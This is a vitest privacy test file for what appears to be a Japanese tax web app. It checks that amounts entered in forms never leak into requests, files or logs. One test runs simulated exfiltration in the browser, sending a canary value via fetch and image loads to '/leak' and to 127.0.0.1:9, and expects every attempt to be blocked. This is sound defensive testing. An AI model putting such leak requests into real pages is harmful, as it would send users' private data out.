import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, inject, it, vi } from 'vitest'
import { canary, canaryLeaks, postedCanaryLeaks } from '../canary.ts'
import { hasChromium, launchWithProfile } from '../chromium.ts'
import { serve } from '../site.ts'

describe.skipIf(!hasChromium)('入力した金額は、端末の外へ出ず、どこにも残らない', () => {
  const url = inject('residentUrl')

  it('すべての欄に入れても、要求・アドレス・端末のファイルのどこにも現れない', async () => {
    const { boxes, requests, seen } = await canaryLeaks(url)
    expect(boxes).toBeGreaterThan(25)
    expect(requests).toBeGreaterThan(3)
    expect(seen).toEqual([])
  })

  it('JavaScriptのないページでは、送った先のほかへ出ず、受け口のファイルにも残らない', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'zeimori-listener-'))
    vi.stubEnv('TMPDIR', folder)
    const said = vi.spyOn(process.stdout, 'write')
    const site = await serve()
    vi.unstubAllEnvs()
    const { boxes, requests, seen } = await postedCanaryLeaks(
      `${site.url}/t/999997/ja/no-script/`,
      folder,
    )
    const words = said.mock.calls.join('')
    said.mockRestore()
    await site.close()
    rmSync(folder, { recursive: true, force: true })
    expect(boxes).toBeGreaterThan(20)
    expect(requests).toBe(1)
    expect(seen).toEqual([])
    expect(words).not.toContain(canary)
  })

  it('たとえページのプログラムがまちがっても、方針が外への送信を止める', async () => {
    const profile = mkdtempSync(join(tmpdir(), 'zeimori-profile-'))
    const context = await launchWithProfile(profile)
    const page = await context.newPage()
    await page.goto(url)
    const outcomes = await page.evaluate(async (secret) => {
      const outcome = (attempt: Promise<unknown>): Promise<string> =>
        attempt.then(
          () => 'sent',
          () => 'blocked',
        )
      const image = new Image()
      const loaded = new Promise((resolve, reject) => {
        image.addEventListener('load', resolve)
        image.addEventListener('error', reject)
      })
      image.src = `/leak?${secret}`
      return [
        await outcome(fetch(`/leak?${secret}`)),
        await outcome(fetch(`http://127.0.0.1:9/leak?${secret}`)),
        await outcome(loaded),
      ]
    }, canary)
    await context.close()
    rmSync(profile, { recursive: true, force: true })
    expect(outcomes).toEqual(['blocked', 'blocked', 'blocked'])
  })
})
